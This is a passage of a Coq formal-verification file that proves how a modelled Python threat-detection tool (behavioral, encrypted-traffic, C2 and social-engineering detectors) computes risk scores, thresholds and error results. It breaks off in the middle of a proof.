Lemma foldM_raises {A S} (f : S -> A -> exc S) (l : list A) (x : A) :
  In x l ->
  (forall s, exists e, f s x = Raise e) ->
  forall s, exists e, foldM f l s = Raise e.
Proof.
  intros Hin Hx. induction l as [|y l IH]; [destruct Hin|].
  intros s. cbn [foldM]. destruct Hin as [->|Hin].
  - destruct (Hx s) as [e ->]. exists e. reflexivity.
  - destruct (f s y) as [s'|e]; cbn [bind]; [apply IH; exact Hin|].
    exists e. reflexivity.
Qed.

Lemma foldM_invariant {A S} (P : S -> Prop) (f : S -> A -> exc S) (l : list A) :
  (forall s x s', P s -> f s x = Ok s' -> P s') ->
  forall s s', P s -> foldM f l s = Ok s' -> P s'.
Proof.
  intros Hf. induction l as [|x l IH]; intros s s' Hs H.
  - injection H as <-. exact Hs.
  - cbn [foldM] in H. destruct (f s x) as [s1|e] eqn:E; [|discriminate].
    cbn [bind] in H. exact (IH s1 s' (Hf _ _ _ Hs E) H).
Qed.

Lemma process_step_unnamed p a :
  pi_name p = None ->
  exists e, BehavioralAnalyzer.process_step a (BehavioralAnalyzer.process_entry p)
            = Raise e.
Proof.
  intros H. unfold BehavioralAnalyzer.process_step.
  replace (py_item (BehavioralAnalyzer.process_entry p) "name") with (Ok VNone)
    by (unfold BehavioralAnalyzer.process_entry; cbn; now rewrite H).
  eexists. reflexivity.
Qed.

Lemma cmdline_step_unreadable p a :
  pi_cmdline p = None ->
  exists e, BehavioralAnalyzer.cmdline_step a (BehavioralAnalyzer.process_entry p)
            = Raise e.
Proof.
  intros H. unfold BehavioralAnalyzer.cmdline_step.
  replace (py_get (BehavioralAnalyzer.process_entry p) "cmdline" (VList []))
    with (Ok VNone)
    by (unfold BehavioralAnalyzer.process_entry; cbn; now rewrite H).
  eexists. reflexivity.
Qed.

Lemma analyze_behavior_unreadable w data procs p :
  dict_get data "processes" = Some (VList (map BehavioralAnalyzer.process_entry procs)) ->
  In p procs ->
  BehaviorSpec.readable p = false ->
  error_shaped (BehavioralAnalyzer.analyze_behavior w data).
Proof.
  intros Hd Hin Hp.
  assert (Hin' : In (BehavioralAnalyzer.process_entry p)
                    (map BehavioralAnalyzer.process_entry procs))
    by (apply in_map; exact Hin).
  unfold BehavioralAnalyzer.analyze_behavior, dict_get_default.
  rewrite Hd. cbn [py_iter bind].
  unfold BehaviorSpec.readable in Hp.
  destruct (pi_name p) as [name|] eqn:En.
  - destruct (pi_cmdline p) as [args|] eqn:Ec; [discriminate|].
    destruct (foldM BehavioralAnalyzer.process_step _ _) as [[sp r1]|e];
      [|repeat split].
    cbn [bind].
    destruct (foldM_raises BehavioralAnalyzer.cmdline_step _ _ Hin'
                (fun a => cmdline_step_unreadable p a Ec) ([], r1)) as [e ->].
    repeat split.
  - destruct (foldM_raises BehavioralAnalyzer.process_step _ _ Hin'
                (fun a => process_step_unnamed p a En) ([], 0.0)) as [e ->].
    repeat split.
Qed.

Lemma collect_processes w procs :
  process_iter w = Ok procs ->
  dict_get (BehavioralAnalyzer.collect_behavioral_data w) "processes"
  = Some (VList (map BehavioralAnalyzer.process_entry procs)).
Proof.
  intros H. unfold BehavioralAnalyzer.collect_behavioral_data. rewrite H. reflexivity.
Qed.

Lemma collect_connections w procs conns :
  process_iter w = Ok procs ->
  net_connections w = Ok conns ->
  dict_get (BehavioralAnalyzer.collect_behavioral_data w) "network_connections"
  = Some (VList (map BehavioralAnalyzer.connection_entry (firstn 50 conns))).
Proof.
  intros H Hc. unfold BehavioralAnalyzer.collect_behavioral_data.
  rewrite H, Hc. reflexivity.
Qed.

(** X13. One process that the caller may not inspect voids the whole
    behavioral analysis.  The collector stores None for a name or a
    command line it may not read; the analyzer then fails on that entry,
    and the result for the machine is the error-shaped one, with no
    finding at all, whatever the other processes and the connections
    are. *)
Theorem unreadable_process_voids_analysis :
  forall (w : World) (procs : list proc_info) (p : proc_info),
    process_iter w = Ok procs ->
    In p procs ->
    pi_name p = None \/ pi_cmdline p = None ->
    error_shaped (BehavioralAnalyzer.analyze_behavior
                    w (BehavioralAnalyzer.collect_behavioral_data w)).
Proof.
  intros w procs p Hw Hin Hp.
  apply (analyze_behavior_unreadable w _ procs p (collect_processes w procs Hw) Hin).
  unfold BehaviorSpec.readable.
  destruct Hp as [-> | ->]; [reflexivity|]. destruct (pi_name p); reflexivity.
Qed.

(** X14. Only the first 50 connections count.  On a machine whose
    processes are all readable and whose first 50 connections go to IPv4
    hosts, the analysis of the collected snapshot scores 0.2 for each
    suspicious process name, 0.3 for each suspicious command found in a
    command line and 0.1 for each of the first 50 connections to a
    malware port; a connection after the 50th changes nothing. *)
Theorem collected_snapshot_score :
  forall (w : World) (procs : list proc_info) (conns : list sconn),
    process_iter w = Ok procs ->
    net_connections w = Ok conns ->
    forallb BehaviorSpec.readable procs = true ->
    forallb BehaviorSpec.ipv4 (firstn 50 conns) = true ->
    let result := BehavioralAnalyzer.analyze_behavior
                    w (BehavioralAnalyzer.collect_behavioral_data w) in
    let score := BehaviorSpec.fractional_score procs (firstn 50 conns) in
    num_field result "overall_risk_score" (Qmin 10 (score * 10))
    /\ (dict_get result "threat_level" = Some (VStr "high") <-> 0.7 <= score)
    /\ (dict_get result "threat_level" = Some (VStr "low") <-> score < 0.4)
    /\ dict_mem result "error" = false.
Proof.
  intros w procs conns Hp Hc Hread Hv4 result score.
  destruct (analyze_behavior_score w (BehavioralAnalyzer.collect_behavioral_data w)
              procs (firstn 50 conns) (collect_processes w procs Hp)
              (collect_connections w procs conns Hp Hc) Hread Hv4)
    as (Hrisk & level & Hl & Hhigh & _ & Hlow).
  fold result in Hrisk, Hl. fold score in Hrisk, Hhigh, Hlow.
  split; [exact Hrisk|]. rewrite Hl.
  split; [|split].
  - rewrite <- Hhigh. split; [intros [= ->]; reflexivity | intros ->; reflexivity].
  - rewrite <- Hlow. split; [intros [= ->]; reflexivity | intros ->; reflexivity].
  - subst result. unfold BehavioralAnalyzer.analyze_behavior, dict_get_default.
    rewrite (collect_processes w procs Hp), (collect_connections w procs conns Hp Hc).
    cbn [py_iter bind].
    destruct (process_loop procs [] 0.0 Hread) as (f1 & r1 & -> & _). cbn [bind].
    destruct (cmdline_loop procs [] r1 Hread) as (f2 & r2 & -> & _). cbn [bind].
    destruct (connection_loop (firstn 50 conns) [] r2 Hv4) as (f3 & r3 & -> & _).
    reflexivity.
Qed.

(** ** The encrypted-traffic detector *)

Arguments EncryptedThreatDetector.scan : simpl never.

Lemma scan_loop {A} (inj : A -> value) (pred : A -> bool)
      (check : value -> exc bool) (type : string) (details : value -> value)
      (risk_level : string) (increment : Q) (items : list A) :
  (forall x, check (inj x) = Ok (pred x)) ->
  forall threats types risk,
  exists threats' types' risk',
    foldM (EncryptedThreatDetector.scan check type details risk_level increment)
          (map inj items) (threats, types, risk)
    = Ok (threats', types', risk')
    /\ risk' == risk + increment * Num.of_nat (BehaviorSpec.count pred items)
    /\ List.length threats'
       = (List.length threats + BehaviorSpec.count pred items)%nat.
Proof.
  intros Hc. induction items as [|x items IH]; intros threats types risk.
  - exists threats, types, risk. split; [reflexivity|].
    change (BehaviorSpec.count pred []) with 0%nat. rewrite of_nat_0. split; [ring|lia].
  - cbn [map foldM]. unfold EncryptedThreatDetector.scan at 1.
    rewrite Hc. cbn [bind]. rewrite count_cons. destruct (pred x).
    + edestruct IH as (th & ty & r & Hf & Er & El).
      exists th, ty, r. split; [exact Hf|]. split.
      * rewrite of_nat_add, Er, add_eq. change (Num.of_nat 1) with 1. ring.
      * rewrite El, length_app. cbn [List.length]. lia.
    + destruct (IH threats types risk) as (th & ty & r & Hf & Er & El).
      exists th, ty, r. split; [exact Hf|]. split.
      * rewrite of_nat_add, Er, of_nat_0. ring.
      * rewrite El. lia.
Qed.

Lemma is_suspicious_domain_string host :
  EncryptedThreatDetector._is_suspicious_domain (VStr host)
  = Ok (EncryptedSpec.suspicious_host host).
Proof. reflexivity. Qed.

Lemma is_dga_domain_string re_search query :
  EncryptedThreatDetector._is_dga_domain re_search (VStr query)
  = Ok (EncryptedSpec.dga_domain re_search query).
Proof.
  unfold EncryptedThreatDetector._is_dga_domain, EncryptedSpec.dga_domain.
  induction EncryptedThreatDetector.dga_patterns as [|p l IH]; [reflexivity|].
  cbn [EncryptedThreatDetector.search_patterns py_lower bind existsb].
  destruct (re_search p (lower query)); [reflexivity|exact IH].
Qed.

Lemma in_numbers_zero :
  in_numbers (VNum 0) EncryptedThreatDetector.suspicious_ports = false.
Proof. reflexivity. Qed.

Lemma is_suspicious_connection_value conn :
  EncryptedThreatDetector._is_suspicious_connection conn
  = Ok (EncryptedSpec.suspicious_port conn).
Proof.
  destruct conn; try reflexivity.
  unfold EncryptedThreatDetector._is_suspicious_connection,
    EncryptedSpec.suspicious_port, dict_get_default.
  destruct (dict_get d "port"); [reflexivity|]. now rewrite in_numbers_zero.
Qed.

Lemma of_nat_mul n m : Num.of_nat (n * m) == Num.of_nat n * Num.of_nat m.
Proof. unfold Num.of_nat. rewrite Nat2Z.inj_mul, inject_Z_mult. reflexivity. Qed.

Lemma of_nat_le n m : (n <= m)%nat <-> Num.of_nat n <= Num.of_nat m.
Proof. unfold Num.of_nat. rewrite <- Zle_Qle. lia. Qed.

Lemma map_id_value (l : list value) : map (fun x : value => x) l = l.
Proof. apply map_id. Qed.

(** X15. The score of [detect_encrypted_threats].  On a dict whose TLS
    hosts and DNS queries are lists of strings (a missing key counts as an
    empty list) and whose connections are a list of any items, every
    suspicious host counts 2 points, every DGA query 3 and every
    connection that is a dict with a suspicious port 1; other connection
    items are passed over.  The risk score is min(10, points), the threat
    level is high from 6 points and medium from 3, and there is one
    threat record for each counted item. *)
Theorem encrypted_threats_score :
  forall (re_search : string -> string -> bool) (w : World) (d : dict)
         (hosts queries : list string) (conns : list value),
    dict_get_default d "tls_hosts" (VList []) = VList (map VStr hosts) ->
    dict_get_default d "dns_queries" (VList []) = VList (map VStr queries) ->
    dict_get_default d "connections" (VList []) = VList conns ->
    let result :=
      EncryptedThreatDetector.detect_encrypted_threats re_search w (VDict d) in
    let points := EncryptedSpec.points re_search hosts queries conns in
    num_field result "overall_risk_score" (Qmin 10 (Num.of_nat points))
    /\ dict_get result "threat_level"
       = Some (VStr (if Nat.leb 6 points then "high"
                     else if Nat.leb 3 points then "medium" else "low"))
    /\ (exists threats,
          dict_get result "threats_detected" = Some (VList threats)
          /\ List.length threats
             = (BehaviorSpec.count EncryptedSpec.suspicious_host hosts
                + BehaviorSpec.count (EncryptedSpec.dga_domain re_search) queries
                + BehaviorSpec.count EncryptedSpec.suspicious_port conns)%nat)
    /\ dict_mem result "error" = false.
Proof.
  intros re w d hosts queries conns Hh Hq Hc result points. subst result.
  unfold EncryptedThreatDetector.detect_encrypted_threats.
  cbn [py_get bind]. rewrite Hh, Hq, Hc. cbn [py_iter bind py_len].
  destruct (scan_loop VStr EncryptedSpec.suspicious_host
              EncryptedThreatDetector._is_suspicious_domain "Suspicious TLS Host"
              (fun host => VDict [("host", host)]) "medium" 0.2 hosts
              is_suspicious_domain_string [] [] 0.0)
    as (th1 & ty1 & r1 & -> & E1 & L1).
  cbn [bind].
  destruct (scan_loop VStr (EncryptedSpec.dga_domain re)
              (EncryptedThreatDetector._is_dga_domain re) "DGA Domain"
              (fun query => VDict [("domain", query)]) "high" 0.3 queries
              (is_dga_domain_string re) th1 ty1 r1)
    as (th2 & ty2 & r2 & -> & E2 & L2).
  cbn [bind].
  destruct (scan_loop (fun x : value => x) EncryptedSpec.suspicious_port
              EncryptedThreatDetector._is_suspicious_connection "Suspicious Connection"
              (fun conn => conn) "medium" 0.1 conns
              is_suspicious_connection_value th2 ty2 r2)
    as (th3 & ty3 & r3 & Hf3 & E3 & L3).
  rewrite map_id_value in Hf3. rewrite Hf3. cbn [bind try_except].
  assert (E : r3 * 10 == Num.of_nat points).
  { rewrite E3, E2, E1. unfold points, EncryptedSpec.points.
    rewrite !of_nat_add, !of_nat_mul. change (Num.of_nat 2) with 2.
    change (Num.of_nat 3) with 3. ring. }
  split; [|split; [|split]].
  - eexists. split; [reflexivity|].
    apply min_eq_compat; [reflexivity|]. rewrite mul_eq. exact E.
  - cbn [dict_get String.eqb Ascii.eqb Bool.eqb]. do 2 f_equal.
    destruct (Nat.leb 6 points) eqn:P6; [|destruct (Nat.leb 3 points) eqn:P3].
    + apply Nat.leb_le, of_nat_le in P6. change (Num.of_nat 6) with 6 in P6.
      assert (G : Num.geb r3 0.6 = true) by (apply geb_true; lra).
      now rewrite G.
    + apply Nat.leb_gt in P6. apply Nat.leb_le, of_nat_le in P3.
      assert (P6' : Num.of_nat points <= Num.of_nat 5) by (apply of_nat_le; lia).
      change (Num.of_nat 5) with 5 in P6'. change (Num.of_nat 3) with 3 in P3.
      assert (G : Num.geb r3 0.6 = false) by (apply geb_false; lra).
      assert (G' : Num.geb r3 0.3 = true) by (apply geb_true; lra).
      now rewrite G, G'.
    + apply Nat.leb_gt in P3.
      assert (P3' : Num.of_nat points <= Num.of_nat 2) by (apply of_nat_le; lia).
      change (Num.of_nat 2) with 2 in P3'.
      assert (G : Num.geb r3 0.6 = false) by (apply geb_false; lra).
      assert (G' : Num.geb r3 0.3 = false) by (apply geb_false; lra).
      now rewrite G, G'.
  - exists th3. split; [reflexivity|]. rewrite L3, L2, L1. reflexivity.
  - reflexivity.
Qed.

Lemma scan_raises check type details risk_level increment item :
  (exists e, check item = Raise e) ->
  forall st, exists e,
    EncryptedThreatDetector.scan check type details risk_level increment st item
    = Raise e.
Proof.
  intros [e H] st. unfold EncryptedThreatDetector.scan. rewrite H.
  exists e. reflexivity.
Qed.

Lemma py_lower_not_a_string item :
  (forall s, item <> VStr s) -> exists e, py_lower item = Raise e.
Proof.
  intros H. destruct item; try (eexists; reflexivity).
  exfalso. eapply H. reflexivity.
Qed.

(** X16. One name that is not a string voids the whole encrypted-traffic
    result.  When the TLS hosts or the DNS queries hold an item that is
    not a string, the detector returns the error-shaped result: threat
    level "error", risk score 0.0 and no finding, also for the suspicious
    items that came before it. *)
Theorem malformed_name_voids_encrypted_result :
  forall (re_search : string -> string -> bool) (w : World) (d : dict)
         (key : string) (items : list value) (item : value),
    key = "tls_hosts" \/ key = "dns_queries" ->
    dict_get d key = Some (VList items) ->
    In item items ->
    (forall s, item <> VStr s) ->
    error_shaped (EncryptedThreatDetector.detect_encrypted_threats
                    re_search w (VDict d)).
Proof.
  intros re w d key items item Hkey Hd Hin Hitem.
  destruct (py_lower_not_a_string item Hitem) as [e He].
  unfold EncryptedThreatDetector.detect_encrypted_threats.
  cbn [py_get bind]. unfold dict_get_default.
  destruct Hkey as [-> | ->].
  - rewrite Hd. cbn [py_iter bind].
    edestruct (foldM_raises
                 (EncryptedThreatDetector.scan
                    EncryptedThreatDetector._is_suspicious_domain "Suspicious TLS Host"
                    (fun host => VDict [("host", host)]) "medium" 0.2)
                 items item Hin) as [e' ->].
    { apply scan_raises. unfold EncryptedThreatDetector._is_suspicious_domain.
      rewrite He. exists e. reflexivity. }
    repeat split.
  - destruct (py_iter _) as [hosts|e1]; [|repeat split]. cbn [bind].
    destruct (foldM _ hosts _) as [st|e1]; [|repeat split]. cbn [bind].
    rewrite Hd. cbn [py_iter bind].
    edestruct (foldM_raises
                 (EncryptedThreatDetector.scan
                    (EncryptedThreatDetector._is_dga_domain re) "DGA Domain"
                    (fun query => VDict [("domain", query)]) "high" 0.3)
                 items item Hin) as [e' ->].
    { apply scan_raises. unfold EncryptedThreatDetector._is_dga_domain.
      cbn [EncryptedThreatDetector.dga_patterns
             EncryptedThreatDetector.search_patterns].
      rewrite He. exists e. reflexivity. }
    repeat split.
Qed.

Lemma c2_port_step_value str_value acc conn :
  EncryptedThreatDetector.c2_port_step str_value acc conn
  = Ok (if EncryptedSpec.suspicious_port conn
        then ((fst acc ++ [VStr ("Suspicious port: "
                                 ++ str_value
                                      match conn with
                                      | VDict d => dict_get_none d "port"
                                      | _ => VNone
                                      end)])%list,
              Num.add (snd acc) 0.3)
        else acc).
Proof.
  destruct conn; try reflexivity.
  unfold EncryptedThreatDetector.c2_port_step, EncryptedSpec.suspicious_port,
    dict_mem, dict_item, dict_get_none, dict_get_default.
  destruct (dict_get d "port") as [port|]; [|reflexivity].
  cbn [bind]. destruct (in_numbers port _); reflexivity.
Qed.

Arguments EncryptedThreatDetector.c2_port_step : simpl never.

Lemma c2_port_loop str_value conns indicators risk :
  exists indicators' risk',
    foldM (EncryptedThreatDetector.c2_port_step str_value) conns (indicators, risk)
    = Ok (indicators', risk')
    /\ risk' == risk
                + 0.3 * Num.of_nat (BehaviorSpec.count EncryptedSpec.suspicious_port conns)
    /\ List.length indicators'
       = (List.length indicators
          + BehaviorSpec.count EncryptedSpec.suspicious_port conns)%nat.
Proof.
  revert indicators risk. induction conns as [|conn conns IH]; intros indicators risk.
  - exists indicators, risk. split; [reflexivity|].
    change (BehaviorSpec.count EncryptedSpec.suspicious_port []) with 0%nat.
    rewrite of_nat_0. split; [ring|lia].
  - cbn [foldM]. rewrite c2_port_step_value. cbn [bind fst snd].
    rewrite count_cons. destruct (EncryptedSpec.suspicious_port conn).
    + edestruct IH as (i' & r' & Hf & Er & El).
      exists i', r'. split; [exact Hf|]. split.
      * rewrite of_nat_add, Er, add_eq. change (Num.of_nat 1) with 1. ring.
      * rewrite El, length_app. cbn [List.length]. lia.
    + destruct (IH indicators risk) as (i' & r' & Hf & Er & El).
      exists i', r'. split; [exact Hf|]. split.
      * rewrite of_nat_add, Er, of_nat_0. ring.
      * rewrite El. lia.
Qed.

(** X17. [detect_c2_communication] on a dict whose connections and DNS
    queries are lists (a missing key counts as an empty list): one
    indicator and 2 points for more than 10 connections, one indicator
    and 3 points for each connection that is a dict with a suspicious
    port, one indicator and 2 points for more than 20 DNS queries.  C2 is
    reported exactly when there is an indicator, the risk score is
    min(10, points), and the connections flagged are those that
    [detect_encrypted_threats] flags. *)
Theorem c2_communication_score :
  forall (str_value : value -> string) (w : World) (d : dict)
         (conns queries : list value),
    dict_get_default d "connections" (VList []) = VList conns ->
    dict_get_default d "dns_queries" (VList []) = VList queries ->
    let result := EncryptedThreatDetector.detect_c2_communication str_value w (VDict d) in
    (exists indicators,
        dict_get result "indicators" = Some (VList indicators)
        /\ List.length indicators = EncryptedSpec.c2_indicators conns queries)
    /\ dict_get result "c2_detected"
       = Some (VBool (Nat.ltb 0 (EncryptedSpec.c2_indicators conns queries)))
    /\ num_field result "risk_score"
                 (Qmin 10 (Num.of_nat (EncryptedSpec.c2_points conns queries)))
    /\ dict_mem result "error" = false
    /\ forall conn,
         EncryptedThreatDetector._is_suspicious_connection conn
         = Ok (EncryptedSpec.suspicious_port conn).
Proof.
  intros str_value w d conns queries Hc Hq result. subst result.
  unfold EncryptedThreatDetector.detect_c2_communication.
  cbn [py_get bind]. rewrite Hc, Hq. cbn [py_len py_iter bind].
  unfold EncryptedSpec.c2_indicators, EncryptedSpec.c2_points.
  destruct (Nat.ltb 10 (List.length conns));
    [destruct (c2_port_loop str_value conns [VStr "High connection count"]
                 (Num.add 0.0 0.2)) as (i1 & r1 & -> & E1 & L1)
    |destruct (c2_port_loop str_value conns [] 0.0) as (i1 & r1 & -> & E1 & L1)];
    cbn [bind fst snd];
    (destruct (Nat.ltb 20 (List.length queries)); cbn [try_except];
     (split; [eexists; split; [reflexivity|]|
              split; [|split; [eexists; split; [reflexivity|]|
                               split; [reflexivity|
                                       exact is_suspicious_connection_value]]]])).
  all: try (rewrite ?length_app, L1; cbn [List.length]; lia).
  all: try (apply min_eq_compat; [reflexivity|];
            rewrite ?mul_eq, ?add_eq, E1, ?add_eq, !of_nat_add, !of_nat_mul, ?of_nat_0;
            change (Num.of_nat 2) with 2; change (Num.of_nat 3) with 3; ring).
  all: cbn [dict_get String.eqb Ascii.eqb Bool.eqb]; do 3 f_equal;
       rewrite ?length_app, L1; cbn [List.length]; lia.
Qed.

(** ** The social-engineering detector *)

Lemma count_if_positive f l :
  Nat.ltb 0 (SocialEngineeringDetector.count_if f l) = existsb f l.
Proof.
  unfold SocialEngineeringDetector.count_if.
  induction l as [|x l IH]; [reflexivity|].
  cbn [filter existsb]. destruct (f x); [reflexivity|exact IH].
Qed.

Arguments SocialEngineeringDetector.count_if : simpl never.
Arguments str_Z : simpl never.

(** X18. Text analysis needs two indicators.  The content analysis of a
    string is suspicious exactly when at least two of the three checks
    (urgency, authority, phishing) fire on the lowercased text; its risk
    level is high when all three fire, medium when two fire, low
    otherwise.  One check alone, phishing wording included, never makes a
    text suspicious. *)
Theorem content_needs_two_indicators :
  forall (content : string),
    let result := SocialEngineeringDetector._analyze_content (VStr content) in
    let fired :=
      SocialSpec.how_many
        [ SocialSpec.fired SocialEngineeringDetector.urgency_keywords (lower content);
          SocialSpec.fired SocialEngineeringDetector.authority_keywords (lower content);
          SocialSpec.fired SocialEngineeringDetector.phishing_indicators
                           (lower content) ] in
    dict_get result "suspicious" = Some (VBool (Nat.leb 2 fired))
    /\ dict_get result "risk_level"
       = Some (VStr (if Nat.leb 3 fired then "high"
                     else if Nat.leb 2 fired then "medium" else "low"))
    /\ dict_mem result "error" = false.
Proof.
  intros content result fired. subst result fired.
  unfold SocialEngineeringDetector._analyze_content.
  cbn [py_lower bind try_except].
  unfold SocialEngineeringDetector.text_checks. rewrite !count_if_positive.
  unfold SocialSpec.fired.
  destruct (existsb _ SocialEngineeringDetector.urgency_keywords);
    destruct (existsb _ SocialEngineeringDetector.authority_keywords);
    destruct (existsb _ SocialEngineeringDetector.phishing_indicators);
    cbn [SocialEngineeringDetector.note fst snd];
    repeat split.
Qed.

Lemma prefix_at c s : String.prefix "@" (String c s) = Ascii.eqb c "@".
Proof.
  cbn [String.prefix]. destruct (ascii_dec "@" c) as [<-|Hne].
  - destruct s; reflexivity.
  - symmetry. apply Ascii.eqb_neq. congruence.
Qed.

Lemma split_on_nonempty sep s : exists piece rest, split_on sep s = piece :: rest.
Proof.
  destruct s as [|c s]; [repeat eexists|].
  cbn [split_on]. destruct (Ascii.eqb c sep); [repeat eexists|].
  destruct (split_on sep s); repeat eexists.
Qed.

Lemma split_on_second s :
  contains "@" s = true ->
  exists piece, nth_error (split_on "@" s) 1 = Some piece.
Proof.
  induction s as [|c s IH]; [discriminate|].
  cbn [contains]. rewrite prefix_at. cbn [split_on].
  destruct (Ascii.eqb c "@").
  - intros _. destruct (split_on_nonempty "@" s) as (piece & rest & ->).
    exists piece. reflexivity.
  - intros H. destruct (IH H) as [piece Hp].
    destruct (split_on "@" s) as [|first rest]; [discriminate|].
    exists piece. exact Hp.
Qed.

Arguments split_on : simpl never.
Arguments contains : simpl never.

(** X19. An email needs two indicators.  On an email whose content,
    subject and sender are strings (a missing one counts as empty), the
    analysis is suspicious exactly when at least two of four checks fire:
    an urgency keyword in the content or the subject, an authority keyword
    in the content or the subject, a phishing phrase in the content (the
    subject is not searched for these), a sender whose domain is one of
    gmail.com, yahoo.com, hotmail.com, outlook.com. *)
Theorem email_needs_two_indicators :
  forall (d : dict) (content subject sender : string),
    dict_get_default d "content" (VStr "") = VStr content ->
    dict_get_default d "subject" (VStr "") = VStr subject ->
    dict_get_default d "sender" (VStr "") = VStr sender ->
    let result := SocialEngineeringDetector._analyze_email (VDict d) in
    let fired :=
      SocialSpec.how_many
        [ SocialSpec.fired_in_either SocialEngineeringDetector.urgency_keywords
                                     (lower content) (lower subject);
          SocialSpec.fired_in_either SocialEngineeringDetector.authority_keywords
                                     (lower content) (lower subject);
          SocialSpec.fired SocialEngineeringDetector.phishing_indicators
                           (lower content);
          SocialSpec.listed_sender (lower sender) ] in
    dict_get result "suspicious" = Some (VBool (Nat.leb 2 fired))
    /\ dict_mem result "error" = false.
Proof.
  intros d content subject sender Hc Hs Hf result fired. subst result fired.
  unfold SocialEngineeringDetector._analyze_email.
  cbn [py_get bind]. rewrite Hc, Hs, Hf. cbn [py_lower bind].
  unfold SocialEngineeringDetector.text_checks. rewrite !count_if_positive.
  unfold SocialSpec.fired, SocialSpec.fired_in_either, SocialSpec.listed_sender.
  destruct (contains "@" (lower sender)) eqn:At.
  - destruct (split_on_second _ At) as [piece Hp].
    unfold list_item. rewrite Hp. rewrite (nth_error_nth _ _ _ Hp).
    cbn [bind andb try_except].
    destruct (existsb _ SocialEngineeringDetector.urgency_keywords);
      destruct (existsb _ SocialEngineeringDetector.authority_keywords);
      destruct (existsb _ SocialEngineeringDetector.phishing_indicators);
      destruct (SocialEngineeringDetector._is_suspicious_domain piece);
      cbn [SocialEngineeringDetector.note fst snd];
      repeat split.
  - cbn [bind andb try_except].
    destruct (existsb _ SocialEngineeringDetector.urgency_keywords);
      destruct (existsb _ SocialEngineeringDetector.authority_keywords);
      destruct (existsb _ SocialEngineeringDetector.phishing_indicators);
      cbn [SocialEngineeringDetector.note fst snd];
      repeat split.
Qed.

(** X20. A URL is suspicious exactly when it shows a typosquatting
    pattern, or is both a shortened link and under one of the top-level
    domains .tk .ml .ga .cf; a shortened link alone, or such a top-level
    domain alone, is not reported.  An item that is not a string is never
    suspicious: its analysis is the error-shaped one. *)
Theorem url_suspicion_rule :
  (forall (url : string),
      let result := SocialEngineeringDetector._analyze_url (VStr url) in
      dict_get result "suspicious"
      = Some (VBool (SocialSpec.typosquatting url
                     || SocialSpec.shortened url && SocialSpec.suspicious_tld url))
      /\ dict_get result "url" = Some (VStr url)
      /\ dict_mem result "error" = false)
  /\ (forall (item : value),
         SocialSpec.is_text item = false ->
         let result := SocialEngineeringDetector._analyze_url item in
         dict_get result "suspicious" = Some (VBool false)
         /\ dict_get result "risk_level" = Some (VStr "error")
         /\ dict_mem result "error" = true).
Proof.
  split.
  - intros url result. subst result.
    unfold SocialEngineeringDetector._analyze_url,
      SocialEngineeringDetector._is_typosquatting.
    cbn [py_lower bind try_except].
    unfold SocialSpec.typosquatting, SocialSpec.shortened, SocialSpec.suspicious_tld,
      SocialSpec.fired.
    destruct (existsb _ SocialEngineeringDetector.suspicious_urls);
      destruct (existsb _ [ "goog1e"; "amaz0n"; "paypa1"; "micr0soft"; "app1e" ]);
      destruct (existsb _ [".tk"; ".ml"; ".ga"; ".cf"]);
      cbn [SocialEngineeringDetector.note fst snd];
      repeat split.
  - intros item H result. subst result.
    destruct item; try discriminate; repeat split.
Qed.

Lemma analysis_error_shape e : part_shape (SocialEngineeringDetector.analysis_error e).
Proof. exists false, 0.0, "error". eexists. split; [reflexivity|discriminate]. Qed.

(** The score of a part is one of finitely many sums of increments. *)
Ltac close_shape :=
  cbn [SocialEngineeringDetector.note fst snd bind try_except];
  eexists _, _, _, _;
  split; [reflexivity | vm_compute; intros H; first [reflexivity | discriminate H]].

Lemma analyze_email_shape email_data :
  part_shape (SocialEngineeringDetector._analyze_email email_data).
Proof.
  unfold SocialEngineeringDetector._analyze_email.
  destruct (py_get email_data "content" (VStr "")) as [c|e];
    [|apply analysis_error_shape].
  cbn [bind]. destruct (py_lower c) as [content|e]; [|apply analysis_error_shape].
  cbn [bind]. destruct (py_get email_data "subject" (VStr "")) as [s|e];
    [|apply analysis_error_shape].
  cbn [bind]. destruct (py_lower s) as [subject|e]; [|apply analysis_error_shape].
  cbn [bind]. destruct (py_get email_data "sender" (VStr "")) as [f|e];
    [|apply analysis_error_shape].
  cbn [bind]. destruct (py_lower f) as [sender|e]; [|apply analysis_error_shape].
  cbn [bind]. unfold SocialEngineeringDetector.text_checks.
  destruct (contains "@" sender).
  - destruct (list_item _ 1) as [domain|e]; [|apply analysis_error_shape].
    cbn [bind].
    destruct (SocialEngineeringDetector._is_suspicious_domain domain);
      destruct (Nat.ltb 0 _); destruct (Nat.ltb 0 _); destruct (Nat.ltb 0 _);
      close_shape.
  - destruct (Nat.ltb 0 _); destruct (Nat.ltb 0 _); destruct (Nat.ltb 0 _);
      close_shape.
Qed.

Lemma analyze_url_shape url :
  part_shape (SocialEngineeringDetector._analyze_url url).
Proof.
  unfold SocialEngineeringDetector._analyze_url,
    SocialEngineeringDetector._is_typosquatting.
  destruct (py_lower url) as [url_lower|e]; [|apply analysis_error_shape].
  cbn [bind].
  destruct (existsb _ SocialEngineeringDetector.suspicious_urls);
    destruct (existsb _ [ "goog1e"; "amaz0n"; "paypa1"; "micr0soft"; "app1e" ]);
    destruct (existsb _ [".tk"; ".ml"; ".ga"; ".cf"]); close_shape.
Qed.

Lemma analyze_content_shape content :
  part_shape (SocialEngineeringDetector._analyze_content content).
Proof.
  unfold SocialEngineeringDetector._analyze_content.
  destruct (py_lower content) as [content_lower|e]; [|apply analysis_error_shape].
  cbn [bind]. unfold SocialEngineeringDetector.text_checks.
  destruct (Nat.ltb 0 _); destruct (Nat.ltb 0 _); destruct (Nat.ltb 0 _);
    close_shape.
Qed.

Lemma record_shape type result st :
  part_shape result ->
  recorded st ->
  exists st', SocialEngineeringDetector.record type result st = Ok st' /\ recorded st'.
Proof.
  intros (suspicious & score & level & rest & -> & Hs) Hst.
  destruct st as [[threats types] risk].
  unfold SocialEngineeringDetector.record.
  cbn [dict_item dict_get String.eqb Ascii.eqb Bool.eqb bind truthy].
  destruct suspicious.
  - cbn [as_number bind]. eexists. split; [reflexivity|].
    destruct Hst as (Ht & Hr & _ & Hpos). specialize (Hs eq_refl).
    split; [|split; [|split]].
    + rewrite map_app, Ht. reflexivity.
    + rewrite add_eq. lra.
    + intros H. destruct threats; discriminate.
    + intros _. rewrite add_eq. lra.
  - eexists. split; [reflexivity|exact Hst].
Qed.

Lemma record_urls urls st :
  recorded st ->
  exists st',
    foldM (fun st url => SocialEngineeringDetector.record
                           "Suspicious URL"
                           (SocialEngineeringDetector._analyze_url url) st)
          urls st = Ok st'
    /\ recorded st'.
Proof.
  revert st. induction urls as [|url urls IH]; intros st Hst.
